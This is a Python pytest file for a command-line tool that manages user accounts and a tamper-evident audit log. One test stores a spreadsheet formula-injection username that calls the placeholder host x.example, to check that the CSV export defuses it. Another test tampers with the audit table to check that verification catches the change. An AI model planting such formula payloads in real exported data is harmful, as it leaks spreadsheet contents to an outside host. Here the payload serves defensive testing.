"""``python -m access``: a thin layer over the accounts API; areas are checked against the data's grids; every
change is audited as made from the command line; the audit log can be listed, exported and verified."""

from __future__ import annotations

import sqlite3
from pathlib import Path

import pandas as pd
import pytest
from tiny_db import EAST, build_tiny_db

from access import AccessStore, AuditEvent
from access.cli import main


@pytest.fixture
def db_path(tmp_path: Path) -> Path:
    return build_tiny_db(tmp_path / "onemap.duckdb")


def run(db_path: Path, *args: str) -> int:
    return main(["--db", str(db_path), *args])


def test_users_are_managed_from_a_shell(db_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(db_path, "add", "wang", "--role", "analyst", "--area", EAST, "--name", "王工") == 0
    out = capsys.readouterr().out
    assert "added wang (analyst, 340102001)" in out and "one-time password" in out
    password = out.rsplit(": ", 1)[1].strip()
    store = AccessStore(db_path.with_name("access.sqlite3"))
    user = store.user("wang")
    assert user is not None and user.must_change_password and user.display_name == "王工"
    assert password not in Path(store.path).read_bytes().decode("latin-1")  # only its hash is stored
    assert run(db_path, "role", "wang", "supervisor") == 0
    assert run(db_path, "area", "wang", "all") == 0
    assert run(db_path, "disable", "wang") == 0
    assert run(db_path, "users") == 0
    listing = capsys.readouterr().out
    assert "wang" in listing and "supervisor" in listing and "disabled" in listing
    changes = store.audit(actions=["user_change"])
    assert changes["username"].str.startswith("cli:").all()
    assert changes["detail"].tolist()[::-1] == [
        "wang: created as analyst bound to 340102001",
        "wang: role supervisor",
        "wang: area all",
        "wang: disabled",
    ]


def test_bad_input_is_one_line_on_stderr(db_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(db_path, "add", "li", "--role", "analyst", "--area", "999999999") == 2
    assert "no grid '999999999' is valid now" in capsys.readouterr().err
    assert run(db_path, "role", "nobody", "analyst") == 2
    assert "no user named 'nobody'" in capsys.readouterr().err
    assert run(db_path, "add", "li", "--role", "screen") == 0
    assert run(db_path, "add", "li", "--role", "screen") == 2
    assert "exists already" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        run(db_path, "add", "zhao", "--role", "boss")


def test_the_audit_log_is_listed_exported_and_verified(
    db_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run(db_path, "add", "wang", "--role", "analyst", "--sso")
    store = AccessStore(db_path.with_name("access.sqlite3"))
    store.record(AuditEvent("login_failed", username='=HYPERLINK("http://x.example/?"&A1)', detail="wrong password"))
    assert run(db_path, "audit", "--action", "user_change") == 0
    assert "created as analyst" in capsys.readouterr().out
    assert run(db_path, "audit", "--csv", str(tmp_path / "audit.csv")) == 0
    exported = pd.read_csv(tmp_path / "audit.csv", encoding="utf-8-sig")
    assert exported["action"].tolist() == ["login_failed", "user_change"]
    assert exported["username"][0] == '\'=HYPERLINK("http://x.example/?"&A1)'  # typed by anyone: defused
    assert run(db_path, "verify") == 0
    assert "audit log intact" in capsys.readouterr().out
    with sqlite3.connect(db_path.with_name("access.sqlite3")) as con:
        con.execute("DROP TRIGGER audit_no_update")
        con.execute("UPDATE audit SET detail = 'nothing happened'")
    assert run(db_path, "verify") == 1
    assert "changed after it was written" in capsys.readouterr().err
